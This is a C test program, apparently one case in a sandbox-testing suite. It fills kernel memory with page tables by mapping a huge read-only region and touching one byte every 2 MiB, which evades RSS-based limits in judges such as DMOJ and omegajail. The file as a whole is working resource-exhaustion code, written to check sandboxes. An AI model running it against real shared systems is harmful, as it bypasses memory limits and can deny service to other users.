/* Fill memory with page tables: read one byte in every 2 MiB. All read the same
 * page of zeros, so RSS stays at a megabyte while each read costs a table of 4 KiB:
 * 512 MiB in the end. DMOJ and omegajail, which look at RSS, see nothing. What must
 * stop it: the memory cgroup counts page tables. */
#include "attack.h"
#include <sys/mman.h>

int main(void)
{
	size_t size = 256UL << 30, step = 2UL << 20;
	volatile char *space = mmap(NULL, size, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	if (space == MAP_FAILED)
		broke("cannot try: mmap: %s", strerror(errno));
	madvise((void *)space, size, MADV_NOHUGEPAGE);
	for (size_t at = 0; at < size; at += step)
		(void)space[at];
	broke("has 512 MiB of page tables");
}
